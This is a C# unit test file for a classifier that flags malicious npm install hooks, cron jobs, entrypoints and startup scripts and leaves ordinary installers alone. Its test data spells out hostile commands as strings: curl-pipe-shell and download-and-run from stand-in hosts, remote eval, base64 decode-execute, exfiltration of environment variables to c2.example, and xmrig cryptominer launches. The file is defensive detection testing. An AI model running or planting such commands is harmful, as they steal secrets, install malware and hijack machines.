using Drydock.Analysis.Content;
using Drydock.Analysis.Scripts;

namespace Drydock.Tests.Analysis.Scripts;

/// <summary>Given command lines and scripts in the places they are found, the classifier names what they do, with a
/// confidence weighed by the place; and ordinary install hooks, installers and entrypoints give nothing.</summary>
public sealed class ScriptClassifierTests
{
    private const string Wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

    public static TheoryData<ScriptContext, string, string, string, Confidence> Malicious => new()
    {
        { ScriptContext.NpmLifecycle, "curl -s https://evil.example/x.sh | sh", "npm-install-script/download-pipe-shell", ThreatCategory.MaliciousNpmPackage, Confidence.Medium },
        { ScriptContext.NpmLifecycle, "wget -qO- http://203.0.113.7/i | sudo bash -s", "npm-install-script/download-pipe-shell", ThreatCategory.MaliciousNpmPackage, Confidence.Medium },
        { ScriptContext.NpmLifecycle, "sh -c \"$(curl -fsSL https://evil.example/i.sh)\"", "npm-install-script/download-pipe-shell", ThreatCategory.MaliciousNpmPackage, Confidence.Medium },
        { ScriptContext.NpmLifecycle, "node -e \"require('https').get('https://evil.example/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"", "npm-install-script/remote-code-eval", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"", "npm-install-script/decode-execute", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "echo Y3VybCBldmlsIHwgc2g= | base64 -d | sh", "npm-install-script/decode-execute", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "node -e \"const r=require('https').request({hostname:'c2.example',method:'POST'});r.end(JSON.stringify(process.env))\"", "npm-install-script/env-exfiltration", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "curl -d \"$(env)\" https://c2.example/collect", "npm-install-script/env-exfiltration", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "env | base64 -w0 | curl -X POST --data-binary @- https://c2.example", "npm-install-script/env-exfiltration", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmLifecycle, "nslookup $(whoami).$(hostname).c2.example", "npm-install-script/env-exfiltration", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.NpmInstallFile, "const s = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(s, 'base64').toString();\neval(code);\n", "npm-install-script/decode-execute", ThreatCategory.MaliciousNpmPackage, Confidence.High },
        { ScriptContext.Cron, "*/5 * * * * root wget -q -O /tmp/.k http://203.0.113.7/k && chmod +x /tmp/.k && /tmp/.k", "suspicious-script/download-and-run", ThreatCategory.SuspiciousScript, Confidence.High },
        { ScriptContext.Cron, "*/10 * * * * root curl -fsSL http://203.0.113.7/s.sh | sh", "suspicious-script/download-pipe-shell", ThreatCategory.SuspiciousScript, Confidence.Medium },
        { ScriptContext.Cron, $"* * * * * curl -fsSL http://203.0.113.7/xmrig -o /tmp/xmrig; chmod 755 /tmp/xmrig; nohup /tmp/xmrig -o stratum+tcp://pool.example:3333 -u {Wallet} &", "coin-miner/miner-download", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Cron, $"* * * * * curl -fsSL http://203.0.113.7/xmrig -o /tmp/xmrig; chmod 755 /tmp/xmrig; nohup /tmp/xmrig -o stratum+tcp://pool.example:3333 -u {Wallet} &", "coin-miner/miner-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Entrypoint, "#!/bin/sh\nset -e\nexec xmrig -o pool.supportxmr.com:443 -u \"$WALLET\" --tls --donate-level 1\n", "coin-miner/miner-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Script, "#!/bin/sh\ncd /tmp\n./kswapd0 -o stratum+tcp://203.0.113.7:3333 -u x -p x --background\n", "coin-miner/pool-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Script, $"#!/bin/sh\n/usr/sbin/.sys --algo rx/0 -o pool.hashvault.pro:80 -u {Wallet}\n", "coin-miner/pool-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.ImageConfig, $"xmrig -o stratum+tcp://pool.example:3333 -u {Wallet} --donate-level 1", "coin-miner/miner-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.ImageConfig, "POOL=stratum+ssl://pool.example:443", "coin-miner/stratum-pool", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.BuildHistory, "/bin/sh -c wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig-6.21.0-linux-static-x64.tar.gz", "coin-miner/miner-download", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Script, "#!/bin/sh\npython3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"\n", "suspicious-script/decode-execute", ThreatCategory.SuspiciousScript, Confidence.Medium },
        { ScriptContext.Startup, "#!/bin/sh\ncurl -s http://203.0.113.7/u -o /var/tmp/u\nchmod +x /var/tmp/u\n/var/tmp/u &\n", "suspicious-script/download-and-run", ThreatCategory.SuspiciousScript, Confidence.High },
        { ScriptContext.Entrypoint, "#!/bin/sh\nnohup /opt/xmrig -c /etc/xmrig.json >/dev/null 2>&1 &\nexec \"$@\"\n", "coin-miner/miner-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Cron, "0 */2 * * mon-fri /usr/local/bin/xmrig", "coin-miner/miner-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Startup, "[Service]\nExecStart=/opt/.cache/kworker -o stratum+tcp://203.0.113.7:3333 -u x --donate-level 1\n", "coin-miner/pool-command-line", ThreatCategory.CoinMiner, Confidence.High },
        { ScriptContext.Startup, "[program:web]\ncommand=/bin/sh -c \"curl -fsSL http://203.0.113.7/x | sh\"\n", "suspicious-script/download-pipe-shell", ThreatCategory.SuspiciousScript, Confidence.Medium },
        { ScriptContext.Cron, "@reboot root /usr/bin/wget -q http://203.0.113.7/.d -O /dev/shm/.d; chmod 777 /dev/shm/.d; /dev/shm/.d", "suspicious-script/download-and-run", ThreatCategory.SuspiciousScript, Confidence.High },
        { ScriptContext.Entrypoint, "#!/bin/sh\nwget http://203.0.113.7/init.sh -O /opt/init.sh\nsh /opt/init.sh\nexec \"$@\"\n", "suspicious-script/download-and-run", ThreatCategory.SuspiciousScript, Confidence.Medium },
    };

    [Theory]
    [MemberData(nameof(Malicious))]
    public void Finds_what_the_command_does(ScriptContext context, string text, string ruleId, string category, Confidence confidence)
    {
        var matches = ScriptClassifier.Classify(text, context);
        var match = Assert.Single(matches, m => m.RuleId == ruleId);
        Assert.Equal((category, confidence), (match.Category, match.Confidence));
        Assert.False(string.IsNullOrWhiteSpace(match.Title));
        Assert.False(string.IsNullOrWhiteSpace(match.Text));
    }

    public static TheoryData<ScriptContext, string> Ordinary => new()
    {
        // Install hooks of popular packages.
        { ScriptContext.NpmLifecycle, "node-gyp rebuild" },
        { ScriptContext.NpmLifecycle, "husky install" },
        { ScriptContext.NpmLifecycle, "prebuild-install || node-gyp rebuild" },
        { ScriptContext.NpmLifecycle, "node install.js" },
        { ScriptContext.NpmLifecycle, "node-pre-gyp install --fallback-to-build" },
        { ScriptContext.NpmLifecycle, "node -e \"try{require('./postinstall')}catch(e){}\"" },
        { ScriptContext.NpmLifecycle, "opencollective-postinstall || true" },
        { ScriptContext.NpmLifecycle, "(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild && node install/dll-copy)" },
        { ScriptContext.NpmLifecycle, "node index.js --exec install" },
        { ScriptContext.NpmLifecycle, "node -e \"process.env.npm_config_global || console.log('run: npx husky')\"" },
        // Installer scripts and build steps that fetch and run vendor installers are ordinary outside persistence places.
        { ScriptContext.Script, "#!/bin/bash\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n" },
        { ScriptContext.BuildHistory, "/bin/sh -c curl -fsSL https://get.docker.com | sh" },
        { ScriptContext.Script, "#!/bin/sh\nwget -O- https://example.org/app.tar.gz | tar xz -C /opt\n" },
        { ScriptContext.Script, "#!/bin/sh\ncurl -fsSLo /usr/local/bin/kubectl https://dl.k8s.io/kubectl && chmod +x /usr/local/bin/kubectl\n" },
        { ScriptContext.Script, "#!/bin/sh\n# stop any xmrig left over: pkill -f xmrig\npkill -f xmrig || true\n" },
        { ScriptContext.Script, "#!/bin/sh\nxmrig --version\nwhich xmrig && rm -f /usr/bin/xmrig\n" },
        { ScriptContext.Cron, "cat foo bar baz qux /tmp/x\n" },
        { ScriptContext.Script, "#!/bin/sh\ngrep -o 'stratum' notes.txt | wc -l\n" },
        { ScriptContext.Script, "#!/bin/sh\necho \"$DATA\" | base64 -d > /tmp/out.bin\n" },
        { ScriptContext.Script, "#!/bin/sh\nping -c1 $(hostname) >/dev/null\n" },
        { ScriptContext.Entrypoint, "#!/bin/sh\nset -e\nif [ \"${1#-}\" != \"$1\" ]; then set -- node \"$@\"; fi\nexec gosu node \"$@\"\n" },
        { ScriptContext.Cron, "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n" },
        { ScriptContext.NpmInstallFile, "const env = Object.assign({}, process.env, { npm_config_global: undefined });\nchild_process.execSync('npm install --no-save @swc/wasm', { env });\n" },
        { ScriptContext.NpmInstallFile, "const https = require('https');\nconst req = eval(\"require\");\nhttps.get(url, res => res.pipe(fs.createWriteStream(dest)));\n" },
    };

    [Theory]
    [MemberData(nameof(Ordinary))]
    public void Ordinary_scripts_give_nothing(ScriptContext context, string text)
    {
        Assert.Empty(ScriptClassifier.Classify(text, context));
    }

    [Fact]
    public void Evidence_names_the_line_and_its_offset()
    {
        var text = "#!/bin/sh\n# harmless\nexec xmrig \\\n  -o stratum+tcp://pool.example:3333 -u x\n";
        var match = Assert.Single(ScriptClassifier.Classify(text, ScriptContext.Entrypoint));
        Assert.Equal(3, match.Line);
        Assert.Equal(text.IndexOf("exec", StringComparison.Ordinal), match.CharOffset);
        Assert.Contains("stratum+tcp://pool.example:3333", match.Text);
    }

    [Fact]
    public void A_hostile_line_is_judged_quickly_and_cut()
    {
        var text = "#!/bin/sh\n" + string.Concat(Enumerable.Repeat("curl a | sh; ", 200_000)) + "\n";
        var match = Assert.Single(ScriptClassifier.Classify(text, ScriptContext.Cron));
        Assert.True(match.Text.Length <= 241);
        Assert.Empty(ScriptClassifier.Classify("#!/bin/sh\n" + new string('(', 300_000) + "curl", ScriptContext.Cron));
    }
}
